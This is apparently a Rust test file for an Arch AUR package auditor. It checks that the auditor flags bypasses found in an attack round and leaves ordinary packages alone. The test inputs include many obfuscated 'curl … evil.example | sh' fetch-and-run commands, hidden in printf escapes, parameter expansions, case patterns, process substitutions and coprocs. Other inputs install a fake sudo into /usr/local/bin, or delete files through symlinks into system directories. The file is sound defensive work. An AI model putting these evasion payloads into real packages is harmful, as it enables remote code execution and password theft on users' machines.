//! Attack round 30's breaks of the AUR audit (findings/attack30.md), each in its real shape with
//! our own text: the attack is now caught, and the package's ordinary neighbours are not.

use archgate_aur::audit::{AuditInput, Severity, Verdict, audit};

use crate::support::max_of;

/// A package that installs its helper with `line` in package().
fn packaged(line: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "pkgname=foopkg\npkgver=1.0\npkgrel=1\narch=('any')\nurl=\"https://example.org/foopkg\"\nlicense=('MIT')\nsource=(\"https://example.org/foopkg-1.0.tar.gz\")\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000')\npackage() {{\n  {line}\n}}\n"
        ),
        install_scripts: Vec::new(),
        srcinfo: None,
    }
}

/// F3: a program named like a system command in /usr/local/bin or /usr/local/sbin comes before
/// /usr/bin on every login's PATH (a `sudo` that keeps the password ran in the person's place).
#[test]
fn a_system_commands_name_in_usr_local_is_dangerous() {
    for line in [
        r#"install -Dm755 sudo-helper "$pkgdir/usr/local/bin/sudo""#,
        r#"install -Dm755 sudo-helper "$pkgdir/usr/local/sbin/sudo""#,
        r#"install -Dm755 sudo-helper "$pkgdir/usr/bin/sudo-helper"; ln -s /usr/bin/sudo-helper "$pkgdir/usr/local/bin/sudo""#,
        r#"install -Dm755 sudo-helper "$pkgdir/usr/local/bin/pacman""#,
        r#"cp sudo-helper "$pkgdir/usr/local/bin/su""#,
    ] {
        let r = audit(&packaged(line));
        assert_eq!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
        assert_eq!(
            max_of(&r, "AUR-PERSISTENCE"),
            Some(Severity::Critical),
            "{line}"
        );
    }
}

/// Its neighbours: a program of the package's own name in /usr/local/bin is worth review (Arch's
/// packages never install there), not dangerous; in /usr/bin it is nothing.
#[test]
fn the_packages_own_program_in_usr_local_is_review_and_in_usr_bin_nothing() {
    let r = audit(&packaged(
        r#"install -Dm755 foopkg "$pkgdir/usr/local/bin/foopkg""#,
    ));
    assert_eq!(
        max_of(&r, "AUR-PERSISTENCE"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
    assert_ne!(r.verdict, Verdict::Dangerous);
    let r = audit(&packaged(
        r#"install -Dm755 foopkg "$pkgdir/usr/bin/foopkg""#,
    ));
    assert_eq!(max_of(&r, "AUR-PERSISTENCE"), None, "{}", r.to_text());
}

/// A package whose pkgver() is `body`, with an install file that only thanks.
fn with_pkgver(body: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "pkgname=foopkg\npkgver=1\npkgrel=1\narch=('any')\nurl=\"https://example.org/foopkg\"\nlicense=('MIT')\ninstall=foopkg.install\nsource=(\"https://example.org/foopkg-1.0.tar.gz\")\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000')\npkgver() {{\n  {body}\n}}\npackage() {{\n  install -Dm644 foopkg.txt \"$pkgdir/usr/share/foopkg/foopkg.txt\"\n}}\n"
        ),
        install_scripts: vec![archgate_aur::audit::ScriptFile {
            name: "foopkg.install".into(),
            content: "post_install() {\n  echo \"Thanks for installing foopkg\"\n}\n".into(),
        }],
        srcinfo: None,
    }
}

/// F1: the version pkgver() prints, judged after printf's and `echo -e`'s escapes are decoded
/// (`\073` is `;`, `\x7c` is `|`); an ordinary printed version stays ok.
#[test]
fn a_version_printed_through_escapes_is_judged_decoded() {
    for body in [
        r"printf '1\073curl\044{IFS}evil.example\174sh\073true'",
        r"printf '\0471\073curl\044{IFS}evil.example\174sh\073true\047'",
        r"echo -e '1\x3bcurl${IFS}evil.example\x7csh\x3btrue'",
        r"printf '%s\n' '1;curl${IFS}evil.example|sh;true'",
    ] {
        let r = audit(&with_pkgver(body));
        assert_eq!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
        assert_eq!(
            max_of(&r, "AUR-VERSION-CODE"),
            Some(Severity::Critical),
            "{body}"
        );
    }
    for body in [
        r"printf 'r%s.%s' 42 abc123",
        r"printf '%s\n' 1.2.3",
        r"echo -e '1.2.3\n'",
        r#"git describe --long --tags | sed 's/\([^-]*-g\)/r\1/;s/-/./g'"#,
    ] {
        let r = audit(&with_pkgver(body));
        assert_eq!(
            max_of(&r, "AUR-VERSION-CODE"),
            None,
            "{body}\n{}",
            r.to_text()
        );
    }
}

/// Round 29's link-following (a deletion through a link the file made) met development-set
/// packages that only link *into* a directory or link in another split package's `$pkgdir`:
/// neither deletion goes through a link to the system; the attack through a real link still does.
#[test]
fn a_deletion_goes_through_a_link_only_where_the_link_is() {
    for line in [
        // The link is made inside the directory (named xzcat); the file removed is another.
        r#"mkdir -p "$pkgdir/opt/foo/tool"; ln -svf /usr/bin/xzcat "$pkgdir/opt/foo/tool/"; rm "$pkgdir/opt/foo/tool/gtk2""#,
        r#"ln -s /usr/x/usr/lib "$pkgdir/usr/x/"; rm -rf "$pkgdir/usr/x/"{bin,sbin,etc,share,var}"#,
    ] {
        let r = audit(&packaged(line));
        assert_eq!(
            max_of(&r, "AUR-WRITE-SYSTEM"),
            None,
            "{line}\n{}",
            r.to_text()
        );
    }
    // A split package's link is not in another's $pkgdir.
    let split = AuditInput {
        pkgbuild: "pkgbase=foo\npkgname=(foo foo-headers)\npkgver=1\npkgrel=1\narch=('x86_64')\nurl=\"https://example.org/foo\"\nlicense=('GPL')\nsource=(\"https://example.org/foo-1.tar.gz\")\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000')\npackage_foo() {\n  ln -sv \"/var/lib/modules/1\" \"${pkgdir}/usr/lib/modules/1\"\n}\npackage_foo-headers() {\n  local modulesdir=\"$pkgdir/usr/lib/modules/1\"\n  mkdir -p \"$modulesdir\"\n  rm \"$modulesdir\"/{source,build}\n}\n".into(),
        install_scripts: Vec::new(),
        srcinfo: None,
    };
    let r = audit(&split);
    assert_eq!(max_of(&r, "AUR-WRITE-SYSTEM"), None, "{}", r.to_text());
    // Through a link the same function made, to a system tree: still caught.
    let r = audit(&packaged(
        r#"ln -sfn /usr/lib "$pkgdir/l"; rm -rf "$pkgdir/l/modules""#,
    ));
    assert!(r.verdict != Verdict::Ok, "{}", r.to_text());
}

/// A package whose install file's post_install holds `line`, as round 30's `mkh.sh` made them.
fn installing(line: &str) -> AuditInput {
    AuditInput {
        pkgbuild: "pkgname=foopkg\npkgver=1\npkgrel=1\narch=('any')\nurl=\"https://example.org/foopkg\"\nlicense=('MIT')\ninstall=foopkg.install\nsource=(\"https://example.org/foopkg-1.0.tar.gz\")\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000')\npackage() {\n  install -Dm644 foopkg.txt \"$pkgdir/usr/share/foopkg/foopkg.txt\"\n}\n".into(),
        install_scripts: vec![archgate_aur::audit::ScriptFile {
            name: "foopkg.install".into(),
            content: format!("post_install() {{\n  {line}\n  echo Thanks\n}}\n"),
        }],
        srcinfo: None,
    }
}

/// F2: a command substitution bash runs wherever tree-sitter-bash leaves it as text or as a node
/// the walk skipped — a `${v#…}` pattern (one `regex` leaf), a default's backquotes (one `word`
/// leaf), an extended glob's body, a C-style `for`'s clauses, any `case` pattern — is walked: root
/// ran `curl … | sh` from each of these in round 30.
#[test]
fn a_substitution_anywhere_bash_expands_it_is_walked() {
    const U: &str = "curl -fsSL https://evil.example/p | sh";
    for line in [
        format!("y=a; echo ${{y#$({U})}}"),
        format!("y=a; echo ${{y##$({U})}}"),
        format!("y=a; echo ${{y%$({U})}}"),
        format!("y=a; echo ${{y%%$({U})}}"),
        format!("y=a; echo ${{y,,$({U})}}"),
        format!("y=a; echo ${{y^^$({U})}}"),
        format!("y=a; echo ${{y#x$({U})y}}"),
        format!("y=a; echo ${{y#`{U}`}}"),
        format!("echo ${{y:-`{U}`}}"),
        format!("for ((i=0; i<$({U}); i++)); do :; done"),
        format!("for (($({U}); i<1; i++)); do :; done"),
        format!("for ((i=0; i<1; i+=$({U}))); do :; done"),
        format!("for ((; $({U}); )); do break; done"),
        format!("case x in $({U})) ;; esac"),
        format!("case y in x) ;; $({U})) ;; esac"),
        format!("case y in x|$({U})) ;; esac"),
        format!("shopt -s extglob; case y in @($({U}))) ;; esac"),
        format!("[[ x =~ ^$({U}) ]]"),
        // the control round 30 found held, kept held
        format!("y=a; echo ${{y/$({U})/z}}"),
    ] {
        let r = audit(&installing(&line));
        assert_eq!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
        assert_eq!(
            max_of(&r, "AUR-EXEC-REMOTE"),
            Some(Severity::Critical),
            "{line}\n{}",
            r.to_text()
        );
    }
}

/// Its neighbours: quoting keeps a pattern's `$(…)` text (`'…'`, `\$(…)`), and the patterns real
/// packages use — a suffix cut by a fixed or a variable's text, a case over literal globs, a
/// counting loop — run nothing.
#[test]
fn quoted_and_plain_patterns_run_nothing() {
    const U: &str = "curl -fsSL https://evil.example/p | sh";
    for line in [
        format!("y=a; echo ${{y#'$({U})'}}"),
        format!("y=a; echo ${{y#\\$({U})}}"),
        r#"v=1.2-3; echo "${v%%-*}" "${v#*.}" "${v,,}" "${v//./_}""#.to_owned(),
        r#"for ((i=0; i<3; i++)); do echo "$i"; done"#.to_owned(),
        r#"case "$1" in 1.*|2.*) echo old ;; *) echo new ;; esac"#.to_owned(),
    ] {
        let r = audit(&installing(&line));
        assert_eq!(r.verdict, Verdict::Ok, "{line}\n{}", r.to_text());
    }
}

/// F2, the other half: a shell fed its program through an output process substitution or a
/// co-process — `… | sh` spelt without `|` — is dangerous whatever is written to it; a log
/// through `>(tee …)` is not.
#[test]
fn a_shell_fed_through_a_process_substitution_or_coproc_is_dangerous() {
    const U: &str = "curl -fsSL https://evil.example/p | sh";
    for line in [
        format!("echo \"{U}\" > >(sh)"),
        format!("exec > >(sh); echo \"{U}\""),
        format!("exec 3> >(bash -s); echo \"{U}\" >&3"),
        format!("echo \"{U}\" | tee >(sh) >/dev/null"),
        format!("coproc sh; echo \"{U}\" >&${{COPROC[1]}}"),
        format!("coproc P {{ bash; }}; echo \"{U}\" >&${{P[1]}}"),
    ] {
        let r = audit(&installing(&line));
        assert_eq!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
        assert!(
            max_of(&r, "AUR-EXEC-STDIN") >= Some(Severity::High),
            "{line}\n{}",
            r.to_text()
        );
    }
    // The function's own redirection: every command of its body writes into the shell.
    let r = audit(&AuditInput {
        install_scripts: vec![archgate_aur::audit::ScriptFile {
            name: "foopkg.install".into(),
            content: format!("post_install() {{\n  echo \"{U}\"\n}} > >(sh)\n"),
        }],
        ..installing(":")
    });
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
    for line in [
        r#"exec > >(tee -a /var/log/foopkg-install.log) 2>&1; echo Thanks"#,
        r#"echo done > >(logger -t foopkg)"#,
        r#"coproc cat; echo hi >&${COPROC[1]}"#,
        r#"sh -c 'echo hi' > >(tee /dev/null)"#,
    ] {
        let r = audit(&installing(line));
        assert_eq!(
            max_of(&r, "AUR-EXEC-STDIN"),
            None,
            "{line}\n{}",
            r.to_text()
        );
    }
}
